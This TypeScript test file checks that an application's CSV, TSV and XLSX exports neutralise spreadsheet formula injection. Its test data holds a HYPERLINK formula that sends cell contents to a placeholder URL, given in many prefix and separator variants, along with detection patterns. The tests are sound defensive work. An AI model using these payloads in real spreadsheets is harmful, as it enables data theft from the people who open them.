// Everything that is exported for a spreadsheet, from every writer: no cell runs as a formula, whatever it contains, and its text can be
// read back unchanged.
import { globSync, readFileSync } from 'node:fs';
import { join, sep } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { csvLine } from '../../main/spreadsheets/csv.ts';
import { csvPieces } from '../../main/spreadsheets/outgoing-sheet.ts';
import { toTsv } from '../../renderer/ui/grid/tsv.ts';
import { sheetXlsx } from '../helpers/whole-sheet.ts';

const root = join(import.meta.dirname, '..', '..');
const files = globSync('{main,renderer}/**/*.{ts,tsx}', { cwd: root });
const read = (path: string): string => readFileSync(join(root, path), 'utf8');
const filesWith = (words: RegExp): string[] =>
  files.filter((path) => words.test(read(path))).map((path) => path.split(sep).join('/'));

const call = 'HYPERLINK("https://example.com/?"&A1;"x")';
const cells = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uff1d', '\uff0b', '\uff0d', '\uff20'].map(
  (start) => `${start}${call}`,
);
const hidden = [`Ana,=${call}`, `Ana\t=${call}`, `Ana";=${call}`, `Ana\r\n=${call}`, `Ana;=${call}`];
const all = [...cells, ...hidden];
const runs = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

const parsed = (text: string, delimiter: string): string[] =>
  Papa.parse<string[]>(text.replace(/^\ufeff/u, ''), { delimiter }).data.flat();

describe('the check itself', () => {
  test('finds cells that would run', () => {
    for (const cell of cells) expect(cell).toMatch(runs);
    expect(parsed(`Ana;=1`, ';').filter((cell) => runs.test(cell))).toEqual(['=1']);
  });
});

describe('no cell runs', () => {
  test.each([
    ['a line', () => Promise.resolve(csvLine(all))],
    [
      'a long sheet',
      async () => {
        async function* rows() {
          yield await Promise.resolve([all, all]);
        }
        let text = '';
        for await (const piece of csvPieces({ name: 'x', header: all, rows: rows() })) text += piece;
        return text;
      },
    ],
  ])('CSV: %s', async (_name, write) => {
    const found = parsed(await write(), ';').filter((cell) => cell !== '');
    expect(found.filter((cell) => runs.test(cell))).toEqual([]);
    expect(found.slice(0, all.length).map((cell) => cell.replace(/^'/u, ''))).toEqual(all);
  });

  test('CSV, if commas and tabs separate cells too', () => {
    const line = csvLine(hidden.slice(0, 2));
    expect(line).toBe(
      `"${hidden
        .slice(0, 2)
        .map((cell) => cell.replaceAll('"', '""'))
        .join('";"')}"\r\n`,
    );
  });

  test('copied cells', () => {
    const found = parsed(toTsv([all, all]), '\t');
    expect(found.filter((cell) => runs.test(cell))).toEqual([]);
  });

  test('XLSX: only texts', async () => {
    const unpacked = unzipSync(await sheetXlsx([all, all], `=${call}`));
    const names = Object.keys(unpacked);
    expect(names.filter((name) => /vba|external|connection|query|calc|drawing|embed/iu.test(name))).toEqual(
      [],
    );
    const text = strFromU8(unpacked['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(text.match(/<c /gu)).toHaveLength(2 * all.length);
    expect(text.match(/ t="inlineStr"/gu)).toHaveLength(2 * all.length);
    expect(text).not.toMatch(/<f[ >]|hyperlink\b|dataValidation/u);
    expect(names.map((name) => strFromU8(unpacked[name] ?? new Uint8Array())).join('')).not.toMatch(
      /definedName|TargetMode/u,
    );
  });
});

describe('there are no other writers', () => {
  const writers = /\b(?:csvLine|sendSheet|notesFile|notesCsv)\b|from '\.\/notes-file\.ts'/u;

  test('every file that makes a spreadsheet for the clerk uses one of these', () => {
    const makers = filesWith(/type: 'text\/csv'|type: 'application\/vnd\.openxml/u);
    expect(makers.length).toBeGreaterThan(0);
    for (const path of makers) expect([path, writers.test(read(path))]).toEqual([path, true]);
  });

  test('one file writes workbooks', () => {
    expect(filesWith(/spreadsheetml\.sheet\.main|\.sheet\.main\+xml/u)).toEqual([
      'main/spreadsheets/write-xlsx.ts',
    ]);
  });
});
